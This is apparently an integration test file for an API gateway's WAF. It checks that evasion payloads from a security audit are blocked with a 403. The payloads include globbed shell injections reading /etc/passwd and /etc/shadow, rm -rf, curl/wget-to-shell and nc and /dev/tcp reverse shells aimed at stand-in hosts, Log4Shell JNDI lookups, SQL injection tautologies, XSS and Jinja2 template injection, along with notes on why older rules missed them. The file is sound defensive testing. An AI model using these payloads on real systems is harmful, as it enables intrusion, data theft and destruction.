// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 16 (round 9 of the WAF evasion audit): session 10's changes (commit 567405e: `!` in filterExpressionOnly,
 * family `v` waiving 944150 and given to query parameters, persisted GraphQL queries over GET, percentDecode
 * leaving escapes that make no UTF-8, `<marquee>` as rich text, rule 90133 on glob-named programs after a shell
 * separator, the Log4j lookup prefixes of the template rule). Against the `waf` policy (CRS v4.28.0 from
 * ../shared, PL1, blocking) through the real gateway in front of a recording upstream, over HTTP/1.1 and HTTP/2.
 * Every technique here is one the gateway stops: 403, and the upstream never sees it. The techniques that got
 * through are in the audit's report, not here. `/crs/*` (PL1) and `/crs2/*` (PL2) run the plain CRS profile.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);

/** A GraphQL persisted query over GET (Apollo APQ: no document, a hash in `extensions`). */
const persisted = (
  variables: string,
  extensions = '{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}',
): Buffer => get(`/graphql?operationName=Ping&variables=${E(variables)}&extensions=${E(extensions)}`);

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

const HTML_INTRO = '<p>Hello team, news below</p>';
const LDAP = 'ldap://evil.example/a';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // Rule 90133 (SEPARATED_GLOB): a glob-named program after other shell syntax than a bare separator.
  {
    name: 'glob: ;/???/c?t</e??/p?ss?? (redirect, no space)',
    build: () => json('host', 'x;/???/c?t</e??/p?ss??'),
  },
  { name: 'glob: ;(/???/c?t /e??/p?ss??) (subshell)', build: () => json('host', 'x;(/???/c?t /e??/p?ss??)') },
  { name: 'glob: ;{ /???/c?t …; } (brace group)', build: () => json('host', 'x;{ /???/c?t /e??/p?ss??; }') },
  { name: 'glob: ;time /???/c?t …', build: () => json('host', 'x;time /???/c?t /e??/p?ss??') },
  { name: 'glob: ;! /???/c?t …', build: () => json('host', 'x;! /???/c?t /e??/p?ss??') },
  { name: 'glob: tab before the argument', build: () => json('host', 'x;/???/c?t\t/e??/p?ss??') },
  { name: 'glob: $IFS before the argument', build: () => json('host', 'x;/???/c?t$IFS/e??/p?ss??') },
  { name: 'glob: ${IFS} before the argument', build: () => json('host', 'x;/???/c?t${IFS}/e??/p?ss??') },
  { name: 'glob: a line break as separator', build: () => json('host', 'x\n/???/c?t /e??/p?ss??') },
  { name: 'glob: || as separator', build: () => json('host', 'x||/???/c?t /e??/p?ss??') },
  {
    name: 'glob: subshell in a query parameter',
    build: () => get(`/api/ping?host=${E('x;(/???/c?t /e??/p?ss??)')}`),
  },
  {
    name: 'glob: subshell after prose',
    build: () => json('note', 'Hello team the invoice is late; (/???/c?t /e??/p?ss??)'),
  },
  { name: 'glob: ;/b?n/sh -c "id"', build: () => json('host', '127.0.0.1;/b?n/sh -c "id"') },
  { name: 'glob: ;/u?r/bin/id', build: () => json('host', '127.0.0.1;/u?r/bin/id') },
  { name: 'glob: ;/b[i]n/cat (bracket)', build: () => json('host', '127.0.0.1;/b[i]n/cat /e??/p?ss??') },
  {
    name: 'glob: curl piped to a globbed shell',
    build: () => json('host', '127.0.0.1;/u?r/bin/curl -s evil.example/x | /b?n/sh'),
  },
  {
    name: 'glob: wget piped to a globbed shell',
    build: () => json('host', '127.0.0.1;/u?r/b?n/wget -qO- evil.example/x|/b?n/sh'),
  },
  {
    name: 'glob: nc -e /b?n/sh',
    build: () => json('host', '127.0.0.1|/u?r/bin/nc evil.example 4444 -e /b?n/sh'),
  },
  {
    name: 'glob: /b?n/bash reverse shell over /dev/tcp',
    build: () => json('host', '127.0.0.1;/b?n/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
  },
  {
    name: 'glob: /b?n/python3 -c os.system',
    build: () => json('host', `127.0.0.1;/b?n/python3 -c 'import os;os.system("id")'`),
  },
  { name: 'glob: /b?n/perl -e system(id)', build: () => json('host', '127.0.0.1;/b?n/perl -e system(id)') },
  { name: 'glob: /b?n/touch /tmp/pwned', build: () => json('host', '127.0.0.1;/b?n/touch /tmp/pwned') },
  { name: 'glob: /b?n/uname -a', build: () => json('host', '127.0.0.1;/b?n/uname -a') },
  { name: 'glob: /b?n/sleep 10', build: () => json('host', '127.0.0.1;/b?n/sleep 10') },
  { name: 'glob: /usr/b?n/whoami', build: () => json('host', '127.0.0.1;/usr/b?n/whoami') },
  { name: 'glob: /u?r/b?n/printenv', build: () => json('host', '127.0.0.1;/u?r/b?n/printenv') },
  // Family v (pipedTextOnly): placeholders beside a shell variable used as the command, and Log4j lookups.
  { name: 'placeholder: ;${SHELL} -c true', build: () => json('q', 'x;${SHELL} -c true') },
  { name: 'placeholder: ;${SHELL} -i', build: () => json('q', 'x;${SHELL} -i') },
  { name: 'placeholder: ; echo ${PATH} (query)', build: () => get(`/api/x?q=${E('x; echo ${PATH}')}`) },
  {
    name: 'placeholder: ${SHELL} reading commands from /dev/tcp',
    build: () => json('host', '1.2.3.4; ${SHELL} < /dev/tcp/evil.example/4444'),
  },
  {
    name: 'log4j: ${jndi} and ${ctx} placeholders, then ${${::-j}ndi:…}',
    build: () => json('note', `Reading \${jndi} and \${ctx} then \${\${::-j}ndi:${LDAP}}`),
  },
  {
    name: 'log4j: a survey tag, then ${jndi:…}',
    build: () => json('note', `Score \${e://Field/nps} \${jndi:${LDAP}}`),
  },
  {
    name: 'log4j: an AWS policy variable, then ${${lower:j}ndi:…}',
    build: () => json('note', `Policy \${aws:username} \${\${lower:j}ndi:${LDAP}}`),
  },
  {
    name: 'log4j: a placeholder, then an unknown prefix with a default (${${x:y:-j}ndi:…})',
    build: () => json('note', `Rule \${id} \${\${x:y:-j}ndi:${LDAP}}`),
  },
  {
    name: 'log4j: placeholder and lookup in a query parameter',
    build: () => get(`/api/search?q=${E(`log4j \${id} \${jndi:${LDAP}}`)}`),
  },
  {
    name: 'log4j: nested unknown-prefix default in a Referer',
    build: () =>
      req('GET', '/api/products?category=denim', [
        ['Referer', `https://shop.example/\${\${x:y:-j}ndi:${LDAP}}`],
      ]),
  },
  {
    name: 'log4j: a placeholder, then &dollar;{jndi:…}',
    build: () => json('note', `Rule \${id} then &dollar;{jndi:${LDAP}}`),
  },
  {
    name: 'log4j: a placeholder, then %24%7Bjndi:…%7D in a query parameter',
    build: () => get(`/api/search?q=${E(`rule \${id} %24%7Bjndi:${LDAP}%7D`)}`),
  },
  {
    name: 'log4j: a placeholder, then ${JNDI:…}',
    build: () => json('note', `Rule \${id} then \${JNDI:${LDAP}}`),
  },
  // A PHP variable-function call spelled with placeholders only (family v lifts 933135; 933180 remains).
  { name: 'placeholder: PHP ${_GET}[0](${_GET}[1])', build: () => json('expr', '${_GET}[0](${_GET}[1])') },
  {
    name: 'placeholder: PHP ${_GET}[0](${_GET}[1]) in a query parameter',
    build: () => get(`/calc?expr=${E('${_GET}[0](${_GET}[1])')}`),
  },
  // Family e (filterExpressionOnly) with `!`.
  { name: 'filter: ! with a literal tautology', build: () => json('filter', 'a = 1 && !(1 = 1)') },
  { name: 'filter: ! over a delay', build: () => json('filter', "name = 'x' || !(sleep(5))") },
  {
    name: 'filter: ! over a subquery',
    build: () => json('filter', 'id = 1 || !(id in (select id from users))'),
  },
  { name: 'filter: ! then a comment', build: () => json('filter', 'id = 1 || !(id = 2) -- x') },
  {
    name: 'filter: ! then a stacked DROP',
    build: () => json('filter', 'id = 1 || !(id = 2); drop table users'),
  },
  {
    name: "filter: ! then a quoted tautology 'a'='a'",
    build: () => json('filter', "name = 'x' || !(name = 'y') || name = 'a'='a'"),
  },
  // Persisted GraphQL queries over GET (graphqlGetQuery without `query`).
  {
    name: 'persisted query: UNION SELECT in a variable',
    build: () => persisted(J({ q: "x' union select password from users--" })),
  },
  {
    name: 'persisted query: img onerror in a variable',
    build: () => persisted(J({ q: '<img src=x onerror=alert(1)>' })),
  },
  { name: 'persisted query: Log4Shell in a variable', build: () => persisted(J({ q: `\${jndi:${LDAP}}` })) },
  {
    name: 'persisted query: a repeated variable (first-wins parsers)',
    build: () => persisted('{"q":"x\' union select password from users--","q":"x"}'),
  },
  {
    name: 'persisted query: a tautology in extensions',
    build: () => persisted('{}', J({ x: "' or 1=1--" })),
  },
  {
    name: 'persisted query: a tautology in operationName',
    build: () => get(`/graphql?operationName=${E("P' or 1=1--")}&variables=${E('{}')}&extensions=${E('{}')}`),
  },
  {
    name: 'persisted query: Jinja2 popen in a variable',
    build: () => persisted(J({ name: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}" })),
  },
  {
    name: 'persisted query: unencoded + for spaces in the variables',
    build: () =>
      get(
        `/graphql?operationName=P&variables={"q":"x'+union+select+password+from+users--"}&extensions=${E('{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}')}`,
      ),
  },
  {
    name: 'persisted query: a second variables after a ; separator',
    build: () =>
      get(
        `/graphql?operationName=P;variables=${E('{"q":"x\' union select password from users--"}')}&variables=${E('{"q":"hi"}')}&extensions=${E('{}')}`,
      ),
  },
  // <marquee> as rich text: only its presentation attributes.
  {
    name: 'marquee: onfinish handler',
    build: () => json('body', `${HTML_INTRO}<marquee onfinish="alert(1)" loop=1>x</marquee>`),
  },
  {
    name: 'marquee: style with expression()',
    build: () => json('body', `${HTML_INTRO}<marquee style="x:expression(alert(1))">x</marquee>`),
  },
  {
    name: 'marquee: javascript: in bgcolor',
    build: () => json('body', `${HTML_INTRO}<marquee bgcolor="javascript:alert(1)">x</marquee>`),
  },
  {
    name: 'marquee: svg onload inside',
    build: () => json('body', `${HTML_INTRO}<marquee><svg onload=alert(1)></marquee>`),
  },
  // percentDecode: escapes that make no UTF-8 stay as written, ASCII escapes beside them are still decoded.
  {
    name: 'percent: %ff then an encoded script',
    build: () => json('p', '%ff%3Cscript%3Ealert(1)%3C/script%3E'),
  },
  {
    name: 'percent: overlong %c0%af traversal',
    build: () => json('p', '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd'),
  },
  { name: 'percent: GBK %bf%27 quote before a tautology', build: () => json('p', '%bf%27 or 1=1-- -') },
];

/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
// Audit 16's bypasses, each confirmed against a real backend at the time (200, the upstream received it), all
// fixed the same session (rules 90133 and 90111, filterExpressionOnly): refused now.
// Same shapes as test/integration/audit16-waf-evasion.test.ts (json, get, persisted, E, J, Case, H2_POST).

const BYPASS_CASES: readonly Case[] = [
  // B1 (command injection, file read / destructive; 90133 SEPARATED_GLOB in src/waf/profile/rules.ts): the rule
  // wants the glob character (`?` or `[`) in the LAST path segment of the program (`/[...]*[?\[][...]*` right before
  // the space), so a glob in an earlier segment (`/b?n/cat`) or a `*`-only pattern (`/b*/cat`) is not seen, and the
  // CRS PL1 rules do not know `/b?n/cat` either (932160 wants `bin/cat`). CRS PL1 passes it too; PL2 (932200)
  // refuses it. Confirmed with dash and bash 5: `eval "ping -c0 $host"` prints /etc/passwd.
  {
    name: 'B1 ;/b?n/cat /e??/p?ss?? (glob in the first segment; 90133 reads only the last)',
    build: () => json('host', '127.0.0.1;/b?n/cat /e??/p?ss??'),
  },
  {
    name: 'B1b ;/b*/cat /e*c/pas*wd (star-only glob; 90133 wants ? or [)',
    build: () => json('host', '127.0.0.1;/b*/cat /e*c/pas*wd'),
  },
  { name: 'B1c &&/b?n/cat /e??/sh?dow', build: () => json('host', '127.0.0.1&&/b?n/cat /e??/sh?dow') },
  {
    name: 'B1d ;/b?n/rm -rf /v?r/www (destructive)',
    build: () => json('host', '127.0.0.1;/b?n/rm -rf /v?r/www'),
  },
  { name: 'B1e query parameter', build: () => get(`/api/ping?host=${E('127.0.0.1;/b?n/cat /e??/p?ss??')}`) },
  {
    name: 'B1f after prose',
    build: () => json('note', 'Hello team the invoice is late; /b?n/cat /e??/p?ss??'),
  },
  {
    name: 'B1g GraphQL persisted query variable',
    build: () => persisted(J({ host: '127.0.0.1;/b?n/cat /e??/p?ss??' })),
  },
  {
    name: 'B1h a backtick code span in prose running /b?n/cat (a backtick is a 90133 separator, but the glob is in the first segment)',
    build: () => json('note', 'Hello team please run `/b?n/cat /e??/p?ss??` today'),
  },
  {
    name: 'B1i ;/b?n/cp /e??/p?ss?? /v?r/w?w/h?ml/ (copies the file into the web root)',
    build: () => json('host', '127.0.0.1;/b?n/cp /e??/p?ss?? /v?r/w?w/h?ml/'),
  },
  // B2 (command injection probe; 90133 + 90111): a glob-named identity probe WITHOUT arguments. 90133 requires
  // `[ \t]+\S` after the glob, 90111 (SEPARATED_PROBE) requires the bare name `id`/`whoami` after the separator.
  // Passes CRS PL1 AND PL2. Confirmed with dash: `eval "ping -c0 127.0.0.1;/u?r/b?n/id"` prints uid=0(root)...
  {
    name: 'B2 ;/b?n/id (argument-less glob probe; passes PL2 too)',
    build: () => json('host', '127.0.0.1;/b?n/id'),
  },
  { name: 'B2b |/u?r/b?n/id', build: () => json('host', '127.0.0.1|/u?r/b?n/id') },
  {
    name: 'B2c ;/b?n/wh?ami (glob in the last segment, but no argument)',
    build: () => json('host', '127.0.0.1;/b?n/wh?ami'),
  },
  {
    name: 'B2d query parameter ;/u?r/b?n/id',
    build: () => get(`/api/ping?host=${E('127.0.0.1;/u?r/b?n/id')}`),
  },
  // B2e: a backtick substitution glued to a branch name (the profile's glued-backtick rule names probes by their
  // bare names; CRS PL2 refuses it only by accident, 942520). bash: `echo checkout feature/`/b?n/id`` → uid=0(root).
  {
    name: 'B2e feature/`/b?n/id` (glued backtick, path-named probe)',
    build: () => json('branch', 'feature/`/b?n/id`'),
  },
  { name: 'B2f a line break, then /b?n/id (PL2 refuses)', build: () => json('host', '127.0.0.1\n/b?n/id') },
  // B3 (SQLi tautology / tenant filter bypass; filterExpressionOnly in src/waf/profile/view.ts, family e waives
  // 942100 libinjection and 90109): `!` now negates, and the tautology guard only knows literal = literal and a
  // field compared with itself, not `x OR NOT x`. CRS PL1 (942100) and PL2 refuse it. Confirmed on MariaDB 10.11:
  // `SELECT * FROM docs WHERE owner_id = 7 || !(owner_id = 7) AND owner_id = 7` (a filter appended before the
  // tenant condition without parentheses) returns every tenant's rows; `role = 'admin' || !(role = 'admin')`
  // likewise. (`x OR NOT x` in words already passed every CRS paranoia level: no libinjection match.)
  {
    name: 'B3 filter: owner_id = 7 || !(owner_id = 7) (negation tautology)',
    build: () => json('filter', 'owner_id = 7 || !(owner_id = 7)'),
  },
  {
    name: "B3b filter: role = 'admin' || !(role = 'admin')",
    build: () => json('filter', "role = 'admin' || !(role = 'admin')"),
  },
  {
    name: 'B3c filter: !(owner_id = 7) || owner_id = 7',
    build: () => json('filter', '!(owner_id = 7) || owner_id = 7'),
  },
  {
    name: 'B3d query parameter',
    build: () => get(`/api/docs?filter=${E("role = 'admin' || !(role = 'admin')")}`),
  },
  {
    name: 'B3e GraphQL persisted query variable',
    build: () => persisted(J({ filter: 'owner_id = 7 || !(owner_id = 7)' })),
  },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'glob: ;(/???/c?t /e??/p?ss??) (subshell)',
    headers: H2_POST,
    body: J({ host: 'x;(/???/c?t /e??/p?ss??)' }),
  },
  {
    name: 'log4j: a placeholder, then an unknown prefix with a default',
    headers: H2_POST,
    body: J({ note: `Rule \${id} \${\${x:y:-j}ndi:${LDAP}}` }),
  },
  {
    name: 'filter: ! then a stacked DROP',
    headers: H2_POST,
    body: J({ filter: 'id = 1 || !(id = 2); drop table users' }),
  },
  {
    name: 'persisted query: UNION SELECT in a variable',
    headers: {
      ':method': 'GET',
      ':path': `/graphql?operationName=Ping&variables=${E(J({ q: "x' union select password from users--" }))}&extensions=${E('{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}')}`,
    },
  },
];

// The payloads behind this audit's techniques, sent to the plain CRS profile (PL1 `/crs/*`, PL2 `/crs2/*`).
const CRS_REFUSES: readonly [path: string, value: unknown][] = [
  ['/crs/x', { filter: 'owner_id = 7 || !(owner_id = 7)' }],
  ['/crs/x', { filter: "role = 'admin' || !(role = 'admin')" }],
  ['/crs2/x', { host: '127.0.0.1;/b?n/cat /e??/p?ss??' }],
  ['/crs2/x', { host: '127.0.0.1;/b?n/rm -rf /v?r/www' }],
  ['/crs/x', { note: `Rule \${id} \${\${x:y:-j}ndi:${LDAP}}` }],
];
const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'B1 over h2', headers: H2_POST, body: J({ host: '127.0.0.1;/b?n/cat /e??/p?ss??' }) },
  {
    name: 'B2 over h2',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E('127.0.0.1;/u?r/b?n/id')}` },
  },
  { name: 'B3 over h2', headers: H2_POST, body: J({ filter: 'owner_id = 7 || !(owner_id = 7)' }) },
];

describe(
  'audit16: WAF evasions of the session-10 relaxations (filter negation, piped text and Log4j, persisted GraphQL GETs, percent-decoding, marquee, 90133) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit16-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('expression', 'applicant.age >= 25 && vehicle.year > 2010 && !(claims.count_5y > 2)'),
        json('note', 'Reading up on log4j ${jndi} mitigation and how ${ctx} names clash with ours'),
        json(
          'body',
          '<marquee scrollamount="6">Welcome to our Toronto office! Fire drill at 14:00.</marquee>',
        ),
        persisted(J({ q: 'select focus portrait' })),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    test('control: plain CRS (PL1 /crs/*, PL2 /crs2/*) refuses the payloads behind these evasions', async () => {
      for (const [path, value] of CRS_REFUSES) {
        const r = await send(doc(value, path));
        assert.equal(r.statuses.at(-1), 403, `${path} ${J(value)}`);
        assert.equal(r.reached.length, 0, `${path} ${J(value)}`);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
